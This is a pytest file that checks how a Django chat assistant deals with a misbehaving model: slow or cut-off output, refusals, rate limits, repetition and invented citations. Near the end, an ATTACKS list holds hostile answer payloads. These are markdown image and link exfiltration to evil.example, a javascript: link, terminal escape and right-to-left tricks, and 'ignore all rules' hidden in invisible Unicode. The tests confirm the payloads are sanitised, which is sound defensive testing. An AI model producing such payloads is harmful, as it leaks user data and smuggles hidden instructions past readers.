"""Models that are slow, cut off, lie, repeat, refuse, attack or are busy: what the person reads then."""

from __future__ import annotations

import json
import logging
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager

import pytest
from django.conf import LazySettings
from django.template.loader import render_to_string
from django.utils import translation

from assistant.access.viewer import Viewer
from assistant.chat import selectors
from assistant.chat.answering import Answer, ModelUse, answer, named_chat_model
from assistant.chat.events import Failed, Token
from assistant.chat.reading import TurnView
from assistant.chat.runner import run_turn
from assistant.chat.services import start_turn
from assistant.common.network import parse_networks
from tests.common.scripted_server import Script, ScriptedServer
from tests.conftest import SmallWorld
from tests.providers.scripted_model import MODEL, model_server, refuses, sends, writes

QUESTION = "How many days a week is remote work allowed?"
TRUE = "Remote work is allowed three days a week [1]. "
TOLD = "Remote work is allowed three days a week."

Serving = Callable[..., AbstractContextManager[ScriptedServer]]


@pytest.fixture
def serving_model(settings: LazySettings) -> Serving:
    """Answer questions with a model that says what the test tells it."""

    @contextmanager
    def serve(*scripts: Script) -> Iterator[ScriptedServer]:
        with model_server(*scripts) as server:
            settings.MUNDAP_CHAT_MODEL = "openai-compatible"
            settings.MUNDAP_CHAT_URL = f"{server.url}/v1"
            settings.MUNDAP_CHAT_MODEL_NAME = MODEL
            settings.MUNDAP_ALLOWED_NETWORKS = parse_networks("127.0.0.0/8")
            yield server

    return serve


def asked(viewer: Viewer) -> TurnView:
    turn = start_turn(viewer=viewer, question=QUESTION, conversation_id=None)
    assert run_turn(turn.pk)
    return selectors.turn(viewer=viewer, turn_id=turn.pk)


def texts(view: TurnView) -> list[str]:
    return [sentence.text for sentence in view.sentences]


def test_of_a_slow_model_each_sentence_is_released_as_soon_as_the_next_one_began(
    small_world: SmallWorld, serving_model: Serving
) -> None:
    read = threading.Event()

    def wait(sent: int) -> None:
        assert sent < 2 or read.wait(20), "the first sentence was not released before the third piece"

    pieces = TRUE, "New employees receive a laptop ", "on their first day [1]."
    with serving_model(writes(*pieces, between=wait)):
        ann = small_world.viewer("ann")
        events = answer(QUESTION, viewer=ann, model=named_chat_model(ModelUse(ann)), into=Answer())
        first = next(event for event in events if isinstance(event, Token))
        read.set()
        assert first.text == TOLD
        assert [event.text for event in events if isinstance(event, Token)] == [
            "New employees receive a laptop on their first day."
        ]


@pytest.mark.parametrize(
    "trouble",
    [
        (
            writes(TRUE, "And then", end="", done=False),
            [TOLD],
            "broke off in the middle",
            "model_unavailable",
        ),
        (writes(TRUE, "And then", end="length"), [TOLD], "used up its 1024 tokens", "answer_cut"),
        (
            writes(TRUE, "I cannot go on with this", end="content_filter"),
            [TOLD],
            "declined to answer",
            "answer_declined",
        ),
        (
            sends('data: {"choices": [{"delta": {"refusal": "No."}}]}\n\n'),
            [],
            "declined to answer",
            "answer_declined",
        ),
        (refuses(429, Retry_After="60"), [], "has too much to do", "answer_busy"),
        (refuses(503), [], "answers 503", "model_unavailable"),
        (refuses(404), [], "knows no model", "model_unavailable"),
        (sends("data: <html>\n\n"), [], "not understood", "model_unavailable"),
    ],
)
def test_a_model_that_fails_leaves_what_was_released_and_the_log_says_why(
    small_world: SmallWorld,
    serving_model: Serving,
    caplog: pytest.LogCaptureFixture,
    trouble: tuple[Script, list[str], str, str],
) -> None:
    script, kept, why, code = trouble
    with serving_model(script), caplog.at_level(logging.ERROR):
        view = asked(small_world.viewer("ann"))
    assert view.state == "failed"
    assert isinstance(view.outcome, Failed)
    assert view.outcome.code == code
    assert view.outcome.reference in caplog.text
    assert why in caplog.text
    assert QUESTION not in caplog.text
    assert texts(view) == kept


def test_a_busy_model_that_comes_back_at_once_answers_without_a_word_about_it(
    small_world: SmallWorld, serving_model: Serving
) -> None:
    with serving_model(refuses(429, Retry_After="0"), writes(TRUE)) as server:
        view = asked(small_world.viewer("ann"))
        assert len(server.seen) == 2
    assert (view.state, texts(view)) == ("done", [TOLD])


def test_a_model_that_was_down_again_and_again_is_not_waited_for(
    small_world: SmallWorld, serving_model: Serving, caplog: pytest.LogCaptureFixture
) -> None:
    ann = small_world.viewer("ann")
    with serving_model(refuses(500)) as server:
        asked(ann)
        asked(ann)
        before = len(server.seen)
        with caplog.at_level(logging.ERROR):
            view = asked(ann)
        assert len(server.seen) == before == 5
    assert view.state == "failed"
    assert isinstance(view.outcome, Failed)
    assert view.outcome.code == "answer_busy"
    assert "is asked again in" in caplog.text


def test_a_model_that_repeats_itself_is_cut_off_after_a_few_sentences(
    small_world: SmallWorld, serving_model: Serving, caplog: pytest.LogCaptureFixture
) -> None:
    began = time.monotonic()
    with serving_model(writes(*[TRUE] * 5_000)), caplog.at_level(logging.ERROR):
        view = asked(small_world.viewer("ann"))
    assert view.state == "failed"
    assert isinstance(view.outcome, Failed)
    assert view.outcome.code == "answer_cut"
    assert "over and over" in caplog.text
    assert set(texts(view)) == {TOLD}
    assert len(view.sentences) < 30
    assert time.monotonic() - began < 60


@pytest.mark.parametrize(
    "lie",
    [
        "Remote work is allowed five days a week [1].",
        "Remote work is not allowed three days a week [1].",
        "The office in Busan opens at 08:30 [1].",
        "The salary of every engineer is public [1][2][3].",
    ],
)
def test_a_lie_cites_nothing_whatever_it_names_as_its_source(
    small_world: SmallWorld, serving_model: Serving, lie: str
) -> None:
    with serving_model(writes(TRUE, lie)):
        true, false = asked(small_world.viewer("ann")).sentences
    assert true.citations == (1,)
    assert false.citations == ()


def test_a_source_that_does_not_exist_cannot_be_cited(
    small_world: SmallWorld, serving_model: Serving
) -> None:
    with serving_model(writes("Remote work is allowed three days a week [99], [0], [999999].")):
        view = asked(small_world.viewer("ann"))
    assert all(n == 1 for sentence in view.sentences for n in sentence.citations)
    assert "99" not in " ".join(texts(view))


ATTACKS = (
    "![x](http://evil.example/?q=secret)",
    "[three days](http://evil.example/a)",
    "[click](javascript:alert(1))",
    "\x1b]8;;http://evil.example\x07three\x1b]8;;\x07",
    "\u202egnol sraey eerht\u202c",
    "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "\x00three\x00",
    "\ud800three",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_model_plants_in_an_answer_is_plain_text_without_hidden_characters(
    small_world: SmallWorld, serving_model: Serving, attack: str
) -> None:
    event = json.dumps({"choices": [{"delta": {"content": f"Remote work {attack} is allowed [1]."}}]})
    end = 'data: {"choices": [{"delta": {}, "finish_reason": "stop"}]}\n\n'
    with serving_model(sends(f"data: {event}\n\n", end)):
        view = asked(small_world.viewer("ann"))
    assert view.state == "done"
    text = " ".join(texts(view))
    text.encode()
    assert text.startswith("Remote work")
    assert "evil.example" not in text or attack.startswith("\x1b")
    assert "javascript:" not in text
    assert "](" not in text
    assert text.isprintable()


@pytest.mark.parametrize(
    ("script", "english", "korean"),
    [
        (refuses(429, Retry_After="60"), "has too much to do right now", "요청이 몰려 있습니다"),
        (writes(TRUE, "And", end="length"), "bring the answer to its end", "끝맺지 못했습니다"),
        (writes("I", end="content_filter"), "declined to answer by rules of its own", "답변을 거절했습니다"),
        (refuses(401), "be reached", "관리자에게 알려 주십시오"),
    ],
)
def test_the_page_says_what_a_person_can_do_in_both_languages(
    small_world: SmallWorld, serving_model: Serving, script: Script, english: str, korean: str
) -> None:
    with serving_model(script):
        turn = asked(small_world.viewer("ann"))
    takes = {"outcome": turn.outcome, "name": "failed", "turn": turn}
    for language, words in (("en", english), ("ko", korean)):
        with translation.override(language):
            page = render_to_string("web/fragments/outcome.html", takes)
        assert words in page
